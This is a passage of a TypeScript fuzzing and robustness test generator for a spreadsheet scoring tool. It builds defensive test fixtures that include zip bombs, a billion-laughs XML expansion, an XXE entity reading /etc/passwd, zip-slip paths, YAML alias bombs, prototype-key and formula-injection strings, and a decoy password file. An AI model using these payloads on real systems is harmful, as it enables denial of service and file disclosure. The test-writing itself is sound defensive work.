        ['batch', sh.rubric, path.join(d, 'in'), '--out', path.join(d, 'o'), '--previous', path.join(d, 'o', 'results.jsonl'), '--jobs', '1', '--no-progress', '--no-pdf']
      ),
    ],
    [
      '1',
      'batch-roster-via-link-in-out',
      async (d, sh) => (
        await mkdir(path.join(d, 'in')),
        await mkdir(path.join(d, 'o')),
        await copy(sh.goodSelf, path.join(d, 'in', 'a.xlsx')),
        await copy(sh.goodSelf, path.join(d, 'roster.xlsx')),
        await symlink(path.join(d, 'roster.xlsx'), path.join(d, 'o', '汇总.xlsx')),
        ['batch', sh.rubric, path.join(d, 'in'), '--out', path.join(d, 'o'), '--roster', path.join(d, 'roster.xlsx'), '--jobs', '1', '--no-progress', '--no-pdf']
      ),
    ],
    [
      '1',
      'sample-onto-roster',
      async (d, sh) => (await copy(sh.goodSelf, path.join(d, '名册.xlsx')), ['sample', path.join(d, '名册.xlsx'), '--rate', '0.5', '--seed', '1', '--out', path.join(d, '.', '名册.xlsx'), '--force']),
    ],
    ['1', 'template-onto-rubric', async (d, sh) => (await copy(sh.rubric, path.join(d, 'r.yaml')), ['template', path.join(d, 'r.yaml'), '--out', path.join(d, 'r.yaml'), '--force'])],
    ['2', 'json-is-folder', async (d, sh) => (await mkdir(path.join(d, 'r.json')), ['score', sh.rubric, '--self', sh.goodSelf, '--json', path.join(d, 'r.json'), '-q'])],
    ['2', 'out-is-file', async (d, sh) => (await writeFile(path.join(d, 'out'), 'x'), ['score', sh.rubric, '--self', sh.goodSelf, '--out', path.join(d, 'out'), '-q'])],
    ['2', 'pdf-through-file', async (d, sh) => (await writeFile(path.join(d, 'f'), 'x'), ['score', sh.rubric, '--self', sh.goodSelf, '--pdf', path.join(d, 'f', 'r.pdf'), '-q'])],
    [
      '2',
      'batch-out-is-file',
      async (d, sh) => (
        await mkdir(path.join(d, 'in')),
        await copy(sh.goodSelf, path.join(d, 'in', 'a.xlsx')),
        await writeFile(path.join(d, 'o'), 'x'),
        ['batch', sh.rubric, path.join(d, 'in'), '--out', path.join(d, 'o'), '--jobs', '1', '--no-progress', '--no-pdf']
      ),
    ],
    [
      '2',
      'compare-out-through-file',
      async (d) => (
        await writeFile(path.join(d, 'f'), 'x'),
        await writeFile(path.join(d, 'p.jsonl'), ''),
        ['compare', path.join(d, 'p.jsonl'), path.join(d, 'p.jsonl'), '--out', path.join(d, 'f', 'o')]
      ),
    ],
  ];
  for (const [cls, family, scenario] of scenarios) add({ kind: 'output', family: `output-${family}`, issueClass: cls, file: family, scenario, expect: [2] });
}

async function copy(from: string, to: string): Promise<void> {
  await writeFile(to, await readFile(from));
}

// ── the case list ─────────────────────────────────────────────────────────

const CFB = [0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1];

function cfb(withEncryption: boolean, size = 4096): Uint8Array {
  const b = new Uint8Array(size);
  b.set(CFB, 0);
  if (withEncryption) b.set(new Uint8Array(Buffer.from('EncryptionInfo', 'utf16le')), 1024);
  return b;
}

/** Raw rows as CSV text (values as written; quotes doubled). */
function csvOf(rows: (RawCell | null)[][]): string {
  const cell = (c: RawCell | null) => {
    const v = c && 'v' in c ? String(c.v) : '';
    return /[",\n]/.test(v) ? `"${v.replace(/"/g, '""')}"` : v;
  };
  return `${rows.map((r) => r.map(cell).join(',')).join('\n')}\n`;
}

/** A deflated entry that inflates to `mb` MB of spaces: the zip bomb. */
function bomb(mb: number, name: string, base: Record<string, Uint8Array>): Uint8Array {
  const big = new Uint8Array(mb * 1024 * 1024).fill(0x20);
  const head = strToU8('<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>');
  big.set(head, 0);
  return zipSync({ ...Object.fromEntries(Object.entries(base).map(([k, v]) => [k, [v, { level: 1 }]])), [name]: [big, { level: 9 }] } as never, { mtime: new Date('2024-01-01T00:00:00Z') });
}

function millionRows(rows: number): Uint8Array {
  const parts: string[] = [];
  const header = stationRows();
  parts.push(sheetDataXml(header));
  for (let r = header.length + 1; r <= rows; r++) parts.push(`<row r="${r}"><c r="A${r}" t="inlineStr"><is><t>x</t></is></c></row>`);
  return rawXlsx([{ name: '自评表', sheetData: parts.join('') }]);
}

function wideRow(cols: number): Uint8Array {
  const header = stationRows();
  const wide: string[] = [];
  for (let c = 1; c <= cols; c++) wide.push(`<c r="${colLetters(c)}${header.length + 1}"><v>${c}</v></c>`);
  return rawXlsx([{ name: '自评表', sheetData: `${sheetDataXml(header)}<row r="${header.length + 1}">${wide.join('')}</row>` }]);
}

function unzipEntries(bytes: Uint8Array): Record<string, Uint8Array> {
  return unzipSync(bytes);
}

export interface GenerateOptions {
  /** Skip the cases that take a second or more each to build or run. */
  light?: boolean;
}

/**
 * Every hostile case for `seed`, in a fixed order. The same seed always gives
 * the same cases and the same bytes.
 */
export function generateCases(seed: number, opts: GenerateOptions = {}): HostileCase[] {
  const rand = rng(seed);
  const int = (lo: number, hi: number) => lo + Math.floor(rand() * (hi - lo + 1));
  const cases: HostileCase[] = [];
  const add = (c: Omit<HostileCase, 'id'> & { id?: string }) => cases.push({ id: c.id ?? `${c.kind}-${c.family}-${String(cases.length).padStart(4, '0')}`, ...c });
  const REFUSED = [2];
  const EITHER = [0, 2];

  const good = stationXlsx();

  // Truncated zips.
  for (let i = 0; i < 250; i++) {
    const cut = int(0, good.length - 1);
    add({ kind: 'workbook', family: 'truncated', file: `truncated-${i}.xlsx`, build: () => good.slice(0, cut), expect: REFUSED });
  }
  // Bit-flipped zips (1–8 bits): may still be readable, or not.
  for (let i = 0; i < 400; i++) {
    const flips = Array.from({ length: int(1, 8) }, () => [int(0, good.length - 1), 1 << int(0, 7)] as const);
    add({
      kind: 'workbook',
      family: 'bitflip',
      file: `bitflip-${i}.xlsx`,
      build: () => {
        const b = good.slice();
        for (const [at, bit] of flips) b[at] ^= bit;
        return b;
      },
      expect: EITHER,
    });
  }
  // Corrupted entries: valid zip, random garbage inside one XML part.
  const parts = ['xl/workbook.xml', 'xl/_rels/workbook.xml.rels', 'xl/worksheets/sheet1.xml', 'xl/styles.xml', '[Content_Types].xml'];
  for (let i = 0; i < 150; i++) {
    const part = parts[i % parts.length];
    const mode = int(0, 3);
    const at = rand();
    const garbage = Array.from({ length: int(1, 64) }, () => int(0, 255));
    add({
      kind: 'workbook',
      family: `part-${['garbage', 'truncate', 'delete', 'empty'][mode]}`,
      file: `part-${i}.xlsx`,
      build: () => {
        const files = unzipEntries(good);
        const body = files[part];
        const cut = Math.floor(at * body.length);
        if (mode === 0) files[part] = concat(body.slice(0, cut), new Uint8Array(garbage), body.slice(cut));
        else if (mode === 1) files[part] = body.slice(0, cut);
        else if (mode === 2) Reflect.deleteProperty(files, part);
        else files[part] = new Uint8Array(0);
        return zipSync(files, { mtime: new Date('2024-01-01T00:00:00Z') });
      },
      expect: EITHER,
    });
  }
  // Random bytes, some starting like a zip.
  for (let i = 0; i < 40; i++) {
    const len = int(1, 4000);
    const pk = i % 2 === 0;
    const bytes = Array.from({ length: len }, () => int(0, 255));
    add({
      kind: 'workbook',
      family: pk ? 'random-pk' : 'random',
      file: `random-${i}.xlsx`,
      build: () => {
        const b = new Uint8Array(bytes);
        if (pk) b.set([0x50, 0x4b, 0x03, 0x04], 0);
        return b;
      },
      expect: REFUSED,
    });
  }

  // Every value shape in every input column (and in the station block).
  const columns: { label: string; spec: (c: RawCell | null) => StationSpec }[] = [
    { label: 'score', spec: (c) => ({ cells: { '1.1': { 3: c } } }) },
    { label: 'score-control', spec: (c) => ({ cells: { '2.2': { 3: c } } }) },
    { label: 'score-choice', spec: (c) => ({ cells: { '1.2': { 3: c } } }) },
    { label: 'id', spec: (c) => ({ cells: { '2.1': { 0: c } } }) },
    { label: 'name', spec: (c) => ({ cells: { '2.1': { 1: c } } }) },
    { label: 'points', spec: (c) => ({ cells: { '1.1': { 2: c } } }) },
    { label: 'note', spec: (c) => ({ cells: { '1.1': { 4: c } } }) },
    { label: 'station', spec: (c) => ({ name: c }) },
    { label: 'county', spec: (c) => ({ county: c }) },
  ];
  for (const col of columns)
    for (const shape of VALUE_SHAPES)
      add({ kind: 'workbook', family: `shape-${col.label}`, file: `shape-${col.label}-${shape.label}.xlsx`, build: () => stationXlsx(col.spec(shape.cell)), expect: EITHER });

  // Layout problems.
  add({ kind: 'workbook', family: 'duplicate-rows', file: 'duplicate-rows.xlsx', build: () => stationXlsx({ extraRows: [[s('1.1'), s('场所面积'), n(4), n(2)]] }), expect: REFUSED });
  add({ kind: 'workbook', family: 'missing-header', file: 'missing-header.xlsx', build: () => stationXlsx({ header: [] }), expect: REFUSED });
  add({ kind: 'workbook', family: 'header-row-200', file: 'header-row-200.xlsx', build: () => stationXlsx({ headerOffset: 197 }), expect: EITHER });
  add({ kind: 'workbook', family: 'header-row-5000', file: 'header-row-5000.xlsx', build: () => stationXlsx({ headerOffset: 4997 }), expect: EITHER });
  add({
    kind: 'workbook',
    family: 'two-item-sheets',
    file: 'two-item-sheets.xlsx',
    build: () => stationXlsx({}, [{ name: '自评表(2)', rows: stationRows({ cells: { '1.1': { 3: n(0) } } }) }]),
    expect: EITHER,
  });
  add({
    kind: 'workbook',
    family: 'hidden-item-sheet',
    file: 'hidden-item-sheet.xlsx',
    build: () =>
      rawXlsx([
        { name: '说明', rows: [[s('说明')]] },
        { name: '自评表', state: 'veryHidden', rows: stationRows() },
      ]),
    expect: EITHER,
  });
  add({ kind: 'workbook', family: 'no-sheets', file: 'no-sheets.xlsx', build: () => rawXlsx([]), expect: REFUSED });

  // Real files (issue 14): values no rule can give, rows whose score has nowhere to go, several filled score
  // sheets, other formats (CSV, broken .xls/.et/.ods). Each must be read right or refused, never scored silently.
  add({ kind: 'workbook', family: 'impossible-tiers', file: 'impossible-tiers.xlsx', build: () => stationXlsx({ cells: { '1.1': { 3: n(3) } } }), expect: REFUSED });
  add({ kind: 'workbook', family: 'impossible-deduction', file: 'impossible-deduction.xlsx', build: () => stationXlsx({ cells: { '2.1': { 3: n(2.5) } } }), expect: REFUSED });
  add({ kind: 'workbook', family: 'score-without-key', file: 'score-without-key.xlsx', build: () => stationXlsx({ extraRows: [[null, null, null, n(2)]] }), expect: REFUSED });
  add({ kind: 'workbook', family: 'score-unknown-name', file: 'score-unknown-name.xlsx', build: () => stationXlsx({ extraRows: [[null, s('不存在的项目'), n(2), n(2)]] }), expect: REFUSED });
  add({
    kind: 'workbook',
    family: 'names-no-ids',
    file: 'names-no-ids.xlsx',
    build: () => stationXlsx({ cells: Object.fromEntries(ITEMS.map((it, i) => [it.id, { 0: n(i + 1), 1: s(`${it.name}（${it.points}分）`) }])) }),
    expect: EITHER,
  });
  add({
    kind: 'workbook',
    family: 'two-filled-sheets',
    file: 'two-filled-sheets.xlsx',
    build: () => stationXlsx({}, [{ name: '去年', rows: stationRows({ cells: { '1.1': { 3: n(2) } } }) }]),
    expect: REFUSED,
  });
  add({ kind: 'workbook', family: 'typed-dash', file: 'typed-dash.xlsx', build: () => stationXlsx({ cells: { '1.1': { 3: s('—') }, '1.2': { 3: s('/') }, '2.1': { 3: s('无') } } }), expect: REFUSED });
  add({
    kind: 'workbook',
    family: 'unplaced-column',
    file: 'unplaced-column.xlsx',
    build: () => stationXlsx({ header: [s('编号'), s('指标'), s('分值'), s('自评得分'), s('复核分数')], cells: { '1.1': { 4: n(2) } } }),
    expect: EITHER,
  });
  add({ kind: 'workbook', family: 'csv-good', file: 'good.csv', build: () => utf8(csvOf(stationRows())), expect: [0] });
  add({ kind: 'workbook', family: 'csv-impossible', file: 'impossible.csv', build: () => utf8(csvOf(stationRows({ cells: { '1.1': { 3: n(3) } } }))), expect: REFUSED });
  add({ kind: 'workbook', family: 'xls-broken', file: 'broken.xls', build: () => cfb(false), expect: REFUSED });
  add({ kind: 'workbook', family: 'et-broken', file: 'broken.et', build: () => cfb(false, 8192), expect: REFUSED });
  add({
    kind: 'workbook',
    family: 'xls-random',
    file: 'random.xls',
    build: () =>
      concat(
        new Uint8Array(CFB),
        new Uint8Array(4096).map((_, i) => (i * 2654435761) >>> 24),
      ),
    expect: REFUSED,
  });
  add({
    kind: 'workbook',
    family: 'xls-html',
    file: 'html.xls',
    build: () => utf8('<html><body><table><tr><td>编号</td><td>自评得分</td></tr><tr><td>9.9</td><td>1</td></tr></table></body></html>'),
    expect: REFUSED,
  });
  add({
    kind: 'workbook',
    family: 'ods-broken',
    file: 'broken.ods',
    build: () =>
      zipSync({
        mimetype: [strToU8('application/vnd.oasis.opendocument.spreadsheet'), { level: 0 }],
        'content.xml': strToU8('<office:document-content><x'),
        'META-INF/manifest.xml': strToU8('<manifest/>'),
      } as never),
    expect: REFUSED,
  });
  add({
    kind: 'workbook',
    family: 'sheet-name-hostile',
    file: 'sheet-name-hostile.xlsx',
    build: () => stationXlsx({ sheetName: '=HYPERLINK("x")\'!A1' }),
    expect: EITHER,
    hostileText: ['HYPERLINK("x")'],
  });
  add({
    kind: 'workbook',
    family: 'unknown-ids',
    file: 'unknown-ids.xlsx',
    build: () => stationXlsx({ extraRows: Array.from({ length: 500 }, (_, i) => [s(`9.${i}`), s('未知'), n(1), n(1)]) }),
    expect: EITHER,
  });
  add({
    kind: 'workbook',
    family: 'bad-cell-ref',
    file: 'bad-cell-ref.xlsx',
    build: () => rawXlsx([{ name: '自评表', sheetData: sheetDataXml(stationRows()).replace('r="A3"', 'r="ZZZZ99999999"') }]),
    expect: EITHER,
  });
  add({
    kind: 'workbook',
    family: 'billion-laughs',
    file: 'billion-laughs.xlsx',
    build: () =>
      rawXlsx([
        {
          name: '自评表',
          xml: `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;"><!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">]><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>${sheetDataXml(stationRows({ name: { t: 'raw', xml: '<c r="{ref}" t="inlineStr"><is><t>&lol4;</t></is></c>' } }))}</sheetData></worksheet>`,
        },
      ]),
    expect: EITHER,
  });
  add({
    kind: 'workbook',
    family: 'external-entity',
    file: 'external-entity.xlsx',
    build: () =>
      rawXlsx([
        {
          name: '自评表',
          xml: `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>${sheetDataXml(stationRows({ name: { t: 'raw', xml: '<c r="{ref}" t="inlineStr"><is><t>&xxe;</t></is></c>' } }))}</sheetData></worksheet>`,
        },
      ]),
    expect: EITHER,
  });
  add({
    kind: 'workbook',
    family: 'zip-slip-names',
    file: 'zip-slip.xlsx',
    build: () => rawXlsx([{ name: '自评表', rows: stationRows() }], { '../../evil.txt': strToU8('x'), '/abs/evil.txt': strToU8('x') }),
    expect: EITHER,
  });
  add({
    kind: 'workbook',
    family: 'deep-xml',
    file: 'deep-xml.xlsx',
    build: () => rawXlsx([{ name: '自评表', sheetData: `${sheetDataXml(stationRows())}${'<x>'.repeat(100_000)}${'</x>'.repeat(100_000)}` }]),
    expect: EITHER,
  });
  add({
    kind: 'workbook',
    family: 'many-merges',
    file: 'many-merges.xlsx',
    build: () =>
      rawXlsx([
        {
          name: '自评表',
          xml: `<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>${sheetDataXml(stationRows())}</sheetData><mergeCells>${Array.from({ length: 20_000 }, (_, i) => `<mergeCell ref="A${i + 20}:XFD${i + 20}"/>`).join('')}</mergeCells></worksheet>`,
        },
      ]),
    expect: EITHER,
  });
  add({
    kind: 'workbook',
    family: 'huge-merge',
    file: 'huge-merge.xlsx',
    build: () =>
      rawXlsx([
        {
          name: '自评表',
          xml: `<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>${sheetDataXml(stationRows())}</sheetData><mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells></worksheet>`,
        },
      ]),
    expect: EITHER,
    heavy: true,
  });
  for (const len of [100_000, 1_000_000]) {
    add({
      kind: 'workbook',
      family: 'long-strings',
      file: `long-strings-${len}.xlsx`,
      build: () => stationXlsx({ name: s('站'.repeat(len)), county: s('县'.repeat(len)), cells: { '1.1': { 1: s('名'.repeat(len)), 4: s('注'.repeat(len)) } } }),
      expect: EITHER,
    });
  }
  for (const ch of ['x', '9', '-']) {
    add({
      kind: 'workbook',
      family: 'long-unbroken',
      file: `long-unbroken-${ch === '-' ? 'dash' : ch}.xlsx`,
      build: () => stationXlsx({ name: s(ch.repeat(100_000)), county: s(ch.repeat(100_000)), cells: { '1.1': { 1: s(ch.repeat(100_000)), 4: s(ch.repeat(100_000)) } } }),
      expect: EITHER,
    });
  }
  add({ kind: 'workbook', family: 'wide-16384', file: 'wide-16384.xlsx', build: () => wideRow(16_384), expect: EITHER, heavy: true });
  add({ kind: 'workbook', family: 'wide-20000', file: 'wide-20000.xlsx', build: () => wideRow(20_000), expect: EITHER, heavy: true });

  // Other formats under an .xlsx name.
  add({ kind: 'workbook', family: 'encrypted', file: 'encrypted.xlsx', build: () => cfb(true), expect: REFUSED });
  add({ kind: 'workbook', family: 'xls-renamed', file: 'xls-renamed.xlsx', build: () => cfb(false), expect: REFUSED });
  add({ kind: 'workbook', family: 'et-renamed', file: 'et-renamed.xlsx', build: () => cfb(false, 8192), expect: REFUSED });
  add({ kind: 'workbook', family: 'csv-renamed', file: 'csv-renamed.xlsx', build: () => utf8('编号,指标,分值,自评得分\n1.1,场所面积,4,4\n'), expect: REFUSED });
  add({ kind: 'workbook', family: 'csv-bom-renamed', file: 'csv-bom-renamed.xlsx', build: () => concat(new Uint8Array([0xef, 0xbb, 0xbf]), utf8('=HYPERLINK("x"),1\n')), expect: REFUSED });
  add({
    kind: 'workbook',
    family: 'ods-renamed',
    file: 'ods-renamed.xlsx',
    build: () =>
      zipSync({
        mimetype: [strToU8('application/vnd.oasis.opendocument.spreadsheet'), { level: 0 }],
        'content.xml': strToU8('<office:document-content/>'),
        'META-INF/manifest.xml': strToU8('<manifest/>'),
      } as never),
    expect: REFUSED,
  });
  add({
    kind: 'workbook',
    family: 'docx-renamed',
    file: 'docx-renamed.xlsx',
    build: () => zipSync({ '[Content_Types].xml': strToU8('<Types/>'), 'word/document.xml': strToU8('<w:document/>') }),
    expect: REFUSED,
  });
  add({ kind: 'workbook', family: 'html-renamed', file: 'html-renamed.xlsx', build: () => utf8('<html><table><tr><td>编号</td></tr></table></html>'), expect: REFUSED });
  add({ kind: 'workbook', family: 'pdf-renamed', file: 'pdf-renamed.xlsx', build: () => utf8('%PDF-1.4\n%%EOF\n'), expect: REFUSED });
  add({ kind: 'workbook', family: 'empty-file', file: 'empty.xlsx', build: () => new Uint8Array(0), expect: REFUSED });
  add({ kind: 'workbook', family: 'empty-zip', file: 'empty-zip.xlsx', build: () => zipSync({}), expect: REFUSED });
  add({ kind: 'fs', family: 'directory', file: 'x.xlsx', special: 'directory', expect: REFUSED });
  add({ kind: 'fs', family: 'symlink-loop', file: 'loop.xlsx', special: 'symlink-loop', expect: REFUSED });
  add({ kind: 'fs', family: 'dangling-symlink', file: 'dangling.xlsx', special: 'dangling-symlink', expect: REFUSED });

  // Heavy: zip bombs, a million rows.
  if (!opts.light) {
    const base = unzipEntries(good);
    add({ kind: 'workbook', family: 'zip-bomb-sheet', file: 'zip-bomb-sheet.xlsx', build: () => bomb(300, 'xl/worksheets/sheet1.xml', base), expect: REFUSED, heavy: true });
    add({ kind: 'workbook', family: 'zip-bomb-strings', file: 'zip-bomb-strings.xlsx', build: () => bomb(300, 'xl/sharedStrings.xml', base), expect: REFUSED, heavy: true });
    add({
      kind: 'workbook',
      family: 'zip-bomb-media',
      file: 'zip-bomb-media.xlsx',
      // An entry the fast reader skips, plus a cell it declines, so exceljs (which inflates everything) gets the file.
      build: () => {
        const files = { ...base, 'xl/worksheets/sheet1.xml': strToU8(new TextDecoder().decode(base['xl/worksheets/sheet1.xml']).replace('<c r="A1"', '<c r="A1" t="zz"')) };
        return bomb(300, 'xl/media/image1.png', files);
      },
      expect: EITHER,
      heavy: true,
    });
    add({ kind: 'workbook', family: 'million-rows', file: 'million-rows.xlsx', build: () => millionRows(1_000_000), expect: EITHER, heavy: true });
    add({
      kind: 'workbook',
      family: 'max-rows',
      file: 'rows-1048577.xlsx',
      build: () => rawXlsx([{ name: '自评表', sheetData: `${sheetDataXml(stationRows())}<row r="1048577"><c r="A1048577"><v>1</v></c></row>` }]),
      expect: EITHER,
    });
    add({
      kind: 'workbook',
      family: 'big-file',
      file: 'big-file.xlsx',
      build: () => {
        const files = { ...base, 'xl/media/big.bin': new Uint8Array(60 * 1024 * 1024).map((_, i) => (i * 2654435761) >>> 24) };
        return zipSync(files, { level: 0 });
      },
      expect: EITHER,
      heavy: true,
    });
  }

  // Names and text that try to escape: station name, county, note; valid otherwise.
  for (const text of HOSTILE_TEXTS) {
    const frag = formulaFragments(text);
    add({ kind: 'name', family: 'name-station', file: `name-station-${cases.length}.xlsx`, build: () => stationXlsx({ name: s(text) }), expect: EITHER, hostileText: frag });
    add({ kind: 'name', family: 'name-county', file: `name-county-${cases.length}.xlsx`, build: () => stationXlsx({ county: s(text) }), expect: EITHER, hostileText: frag });
    add({ kind: 'name', family: 'name-note', file: `name-note-${cases.length}.xlsx`, build: () => stationXlsx({ cells: { '1.1': { 4: s(text) } } }), expect: EITHER, hostileText: frag });
    add({
      kind: 'name',
      family: 'name-both',
      file: `name-both-${cases.length}.xlsx`,
      build: () => stationXlsx({ name: s(`${text}社工站`), county: s(text), cells: { '2.1': { 4: s(text) } } }),
      expect: EITHER,
      hostileText: frag,
    });
  }

  // Rubrics: named edits, alias bombs, deep nesting, random mutations, 50 MB.
  const RUBRIC_ANY = [0, 1, 2];
  for (const e of RUBRIC_EDITS)
    add({
      kind: 'rubric',
      family: e.family,
      file: `${e.family}.yaml`,
      build: () => {
        const r = e.edit(MINIMAL_RUBRIC);
        return typeof r === 'string' ? utf8(r) : r;
      },
      expect: RUBRIC_ANY,
    });
  for (const [levels, width] of [
    [3, 10],
    [5, 10],
    [9, 9],
    [12, 12],
    [20, 2],
    [30, 2],
    [40, 3],
    [6, 50],
  ])
    add({ kind: 'rubric', family: 'alias-bomb', file: `alias-bomb-${levels}x${width}.yaml`, build: () => utf8(aliasBomb(levels, width)), expect: RUBRIC_ANY });
  for (const depth of [100, 1000, 10_000, 50_000]) {
    add({ kind: 'rubric', family: 'deep-flow', file: `deep-flow-${depth}.yaml`, build: () => utf8(deepFlow(depth)), expect: RUBRIC_ANY, heavy: depth >= 10_000 });
    add({ kind: 'rubric', family: 'deep-flow-map', file: `deep-flow-map-${depth}.yaml`, build: () => utf8(deepFlowMap(depth)), expect: RUBRIC_ANY, heavy: depth >= 10_000 });
    add({ kind: 'rubric', family: 'deep-block', file: `deep-block-${depth}.yaml`, build: () => utf8(deepBlock(depth)), expect: RUBRIC_ANY, heavy: depth >= 10_000 });
  }
  if (!opts.light) add({ kind: 'rubric', family: 'size-50mb', file: 'size-50mb.yaml', build: () => utf8(`${MINIMAL_RUBRIC}# ${'x'.repeat(50 * 1024 * 1024)}\n`), expect: RUBRIC_ANY, heavy: true });
  add({ kind: 'rubric', family: 'size-4mb', file: 'size-4mb.yaml', build: () => utf8(`${MINIMAL_RUBRIC}notes: |\n${'  说明文字说明文字\n'.repeat(150_000)}`), expect: RUBRIC_ANY });
  const lines = MINIMAL_RUBRIC.split('\n');
  for (let i = 0; i < 500; i++) {
    const mode = int(0, 5);
    const ln = int(0, lines.length - 1);
    const ch = int(0, 60);
    const junk = ['\t', ':', '-', '[', '{', '&a', '*a', '!!', '"', "'", '#', '|', '>', '%', '@', '`', '? ', '\u0000', '\u202e', '__proto__: 1', '  ', '\r'][int(0, 21)];
    const other = int(0, lines.length - 1);
    add({
      kind: 'rubric',
      family: `mutate-${['delete', 'duplicate', 'insert', 'swap', 'indent', 'truncate'][mode]}`,
      file: `mutate-${i}.yaml`,
      build: () => {
        const l = lines.slice();
        if (mode === 0) l.splice(ln, 1);
        else if (mode === 1) l.splice(ln, 0, l[ln]);
        else if (mode === 2) l[ln] = l[ln].slice(0, ch) + junk + l[ln].slice(ch);
        else if (mode === 3) [l[ln], l[other]] = [l[other], l[ln]];
        else if (mode === 4) l[ln] = ` ${l[ln]}`;
        else return utf8(l.join('\n').slice(0, Math.floor((ln / lines.length) * MINIMAL_RUBRIC.length)));
        return utf8(l.join('\n'));
      },
      expect: RUBRIC_ANY,
    });
  }
  issue15Cases(add);
  return cases;
}

/** Write one case's input into `dir`; returns its path. */
export async function materialise(c: HostileCase, dir: string, baseResult?: string): Promise<string> {
  await mkdir(dir, { recursive: true });
  const file = path.join(dir, c.file);
  if (c.scenario)
    return dir; // the scenario writes its own inputs
  else if (c.special === 'fifo') execFileSync('mkfifo', [file]);
  else if (c.special === 'dev-zero') await symlink('/dev/zero', file);
  else if (c.special === 'dev-urandom') await symlink('/dev/urandom', file);
  else if (c.special === 'gbk-name') {
    // The name's bytes are GBK (as unzip leaves them); Node shows them as U+FFFD.
    const raw = Buffer.concat([Buffer.from(dir + path.sep), Buffer.from([0xb3, 0xc7, 0xb9, 0xd8, 0xd5, 0xf2]), Buffer.from('.xlsx')]);
    await writeFile(raw, stationXlsx());
  } else if (c.editResult) {
    await writeFile(path.join(dir, '..', 'secret.yaml'), 'password: hunter2\n');
    await writeFile(file, JSON.stringify(c.editResult(JSON.parse(baseResult ?? '{}') as Record<string, unknown>), null, 2));
  } else if (c.special === 'directory') await mkdir(file, { recursive: true });
  else if (c.special === 'symlink-loop') {
    await symlink(path.join(dir, 'loop-b.xlsx'), file).catch(() => {});
    await symlink(file, path.join(dir, 'loop-b.xlsx')).catch(() => {});
  } else if (c.special === 'dangling-symlink') await symlink(path.join(dir, 'does-not-exist.xlsx'), file).catch(() => {});
  else await writeFile(file, await must(c.build)());
  return file;
}

/** A valid raw station workbook (used to fill batch folders with good stations). */
export function goodStation(name: string, county: string, score11 = 4): Uint8Array {
  return stationXlsx({ name: s(name), county: s(county), cells: { '1.1': { 3: n(score11) } } });
}
